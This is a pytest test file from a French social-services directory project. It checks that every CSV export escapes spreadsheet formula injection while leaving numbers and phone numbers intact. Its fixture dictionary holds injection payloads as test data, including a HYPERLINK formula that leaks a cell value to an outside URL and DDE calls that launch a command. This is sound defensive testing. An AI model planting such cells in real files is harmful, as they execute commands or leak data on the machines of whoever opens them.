"""Every CSV the project writes is inert in a spreadsheet: no cell is a formula, and the
numbers and phone numbers stay what they are."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path
from typing import Any

import pytest
import yaml
from guide_solidarites.catalogue import Catalogue, Variante, build_catalogue
from guide_solidarites.communes import Commune
from guide_solidarites.couverture import PointAccueil, analyser_couverture
from guide_solidarites.couverture import write_csv as write_csv_couverture
from guide_solidarites.exports import write_csv_lieux
from guide_solidarites.importers import data_inclusion, france_services
from guide_solidarites.importers.commun import Communes
from guide_solidarites.importers.rapport import Rapport
from guide_solidarites.importers.sortie import Sortie
from guide_solidarites.qualite import rapport_qualite
from guide_solidarites.qualite import write_csv as write_csv_qualite
from guide_solidarites.tableur import DECLENCHEURS_FORMULE, neutraliser, ouvrir_csv
from guide_solidarites.validation import valider

AUJOURDHUI = dt.date(2026, 11, 22)
IMPORT = Path(__file__).parent / "data" / "import"
FS = IMPORT / "france-services.csv"

# What an attacker plants: a link that leaks the sheet, a DDE call, the other triggers.
FORMULES = {
    "lien": '=HYPERLINK("https://example.org/?"&A2;"Cliquez ici")',
    "dde": "+cmd|' /C calc'!A0",
    "moins": "-2+3+cmd|' /C calc'!A0",
    "arobase": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tabulation": "\t=1+1",
    "retour": "\r=1+1",
}


def lire(contenu: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(contenu.removeprefix("\ufeff"), newline=""),
                           delimiter=";"))


def cellules_dangereuses(lignes: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: a trigger first, and not a plain number or phone."""
    return [c for ligne in lignes for c in ligne
            if c.lstrip(" ").startswith(DECLENCHEURS_FORMULE) and neutraliser(c) != c]


# --- The rule ---------------------------------------------------------------------------


@pytest.mark.parametrize("formule", FORMULES.values(), ids=FORMULES.keys())
def test_a_cell_starting_with_a_trigger_gets_a_leading_apostrophe(formule: str) -> None:
    assert neutraliser(formule) == "'" + formule


@pytest.mark.parametrize("valeur", ["=1+1", " =1+1", "\u00a0@A1", "\uff1dSUM(A1)", "-",
                                    "+33 (0)2 43 62 50 00", "-0.3 km", "+ de 60 ans"])
def test_other_forms_a_spreadsheet_may_run_are_neutralised_too(valeur: str) -> None:
    assert neutraliser(valeur) == "'" + valeur


@pytest.mark.parametrize("valeur", ["-0.333457", "-12", "+3", "1e-5", "-4,5",
                                    "+33 2 43 62 50 00", "+33243625000", "+590 590 12 34 56",
                                    "+32 2 555 12 12", "+33.2.43.62.50.00"])
def test_numbers_and_international_phone_numbers_are_left_as_they_are(valeur: str) -> None:
    assert neutraliser(valeur) == valeur


@pytest.mark.parametrize("valeur", ["CCAS de Sablé", "02 43 62 50 00", "115", "", "A=B",
                                    "Mo-Fr 09:00-12:00", "72000"])
def test_ordinary_text_is_unchanged(valeur: str) -> None:
    assert neutraliser(valeur) == valeur


def test_the_writer_neutralises_every_cell_numbers_included() -> None:
    flux = io.StringIO(newline="")
    with ouvrir_csv(flux) as writer:
        writer.writerow(["=1+1", -0.5, None, "+33 2 43 62 50 00"])
        writer.writerows([["@A1", 3]])
    assert lire(flux.getvalue()) == [["'=1+1", "-0.5", "", "+33 2 43 62 50 00"],
                                     ["'@A1", "3"]]


# --- Every CSV producer -------------------------------------------------------------------


def partenaire(**overrides: Any) -> dict[str, Any]:
    return {"nom": "Centre communal d'action sociale", "cercle": "premier-accueil",
            "verifie_le": "2026-10-01", "verifie_par": "Accueil"} | overrides


def lieu(**overrides: Any) -> dict[str, Any]:
    return {
        "nom": "CCAS de Sablé-sur-Sarthe",
        "type": "ccas-cias",
        "adresse": "1 place Raphaël Élizé",
        "code_postal": "72300",
        "code_insee": "72264",
        "coordonnees": {"latitude": 47.840412, "longitude": -0.333457,
                        "precision": "adresse"},
        "modes_accueil": ["sans-rendez-vous", "telephone"],
        "telephone": "02 43 62 50 00",
        "thematiques": ["famille--soutien-a-la-parentalite-et-a-leducation"],
        "publics": ["familles"],
        "verifie_le": "2026-10-01",
        "verifie_par": "Accueil",
    } | overrides


def catalogue_hostile(tmp_path: Path, variante: Variante) -> Catalogue:
    """A partner and a place whose every free text that reaches a CSV is a formula."""
    racine = tmp_path / "annuaire"
    fichiers = {
        "ccas/partenaire.yml": partenaire(nom=FORMULES["dde"]),
        "ccas/ccas.yml": lieu(nom=FORMULES["lien"], adresse=FORMULES["arobase"],
                              complement_adresse=FORMULES["moins"],
                              verifie_par=FORMULES["tabulation"].strip()),
    }
    for nom, data in fichiers.items():
        chemin = racine / nom
        chemin.parent.mkdir(parents=True, exist_ok=True)
        chemin.write_text(yaml.safe_dump(data, allow_unicode=True), "utf-8")
    charge, report = valider(racine, aujourdhui=AUJOURDHUI)
    assert not report.erreurs, [p.format() for p in report.erreurs]
    return build_catalogue(charge, variante, racine, aujourdhui=AUJOURDHUI)


def test_open_data_places_csv_has_no_formula(tmp_path: Path) -> None:
    flux = io.StringIO(newline="")
    write_csv_lieux(catalogue_hostile(tmp_path, Variante.PUBLIC), flux)
    lignes = lire(flux.getvalue())
    assert cellules_dangereuses(lignes) == []
    ligne = dict(zip(lignes[0], lignes[1], strict=True))
    assert ligne["Nom"] == "'" + FORMULES["lien"]
    assert ligne["Adresse"] == "'" + FORMULES["arobase"]
    assert ligne["Partenaire"] == "'" + FORMULES["dde"]
    # The values a spreadsheet must read as they are.
    assert ligne["Longitude"] == "-0.333457"


def test_quality_csv_has_no_formula(tmp_path: Path) -> None:
    flux = io.StringIO(newline="")
    write_csv_qualite(rapport_qualite(catalogue_hostile(tmp_path, Variante.PUBLIC)), flux)
    lignes = lire(flux.getvalue())
    assert cellules_dangereuses(lignes) == []
    assert "'" + FORMULES["lien"] in lignes[1] and "'" + FORMULES["dde"] in lignes[1]


def test_coverage_csv_has_no_formula() -> None:
    communes = [Commune("99001", FORMULES["arobase"], "99", ("99000",), 100, 45.0, -0.5)]
    points = [PointAccueil("mds", FORMULES["lien"], 45.0, -0.5, "99001")]
    flux = io.StringIO(newline="")
    write_csv_couverture(analyser_couverture(communes, points, []), flux)
    lignes = lire(flux.getvalue())
    assert cellules_dangereuses(lignes) == []
    ligne = dict(zip(lignes[0], lignes[1], strict=True))
    assert ligne["Commune"] == "'" + FORMULES["arobase"]
    assert ligne["Premier accueil le plus proche"] == "'" + FORMULES["lien"]
    assert ligne["Longitude mairie"] == "-0.50000"


def test_import_report_csv_has_no_formula(tmp_path: Path) -> None:
    # A source's raw values are quoted verbatim in the report: the most hostile cells.
    texte = FS.read_text("utf-8").replace(",04 50 56 87 49,", ',"=2+5",')
    source = tmp_path / "france-services.csv"
    source.write_text(texte, "utf-8")
    rapport, communes = Rapport(), Communes()
    france_services.importer(source, Sortie(tmp_path / "fs"), rapport, None, communes)
    data_inclusion.importer(IMPORT / "structures.json", IMPORT / "services.json",
                            Sortie(tmp_path / "di"), rapport, "973", communes)
    rapport.ecrire_csv(tmp_path / "rapport.csv")
    lignes = lire((tmp_path / "rapport.csv").read_text("utf-8"))
    assert cellules_dangereuses(lignes) == []
    assert ["france-services.csv", "1", "France services de Valserhône", "telephone", "'=2+5",
            "numéro de téléphone invalide"] in lignes
    # A phone number in international form, quoted from the source, stays dialable.
    assert "+33594341747" in {ligne[4] for ligne in lignes}
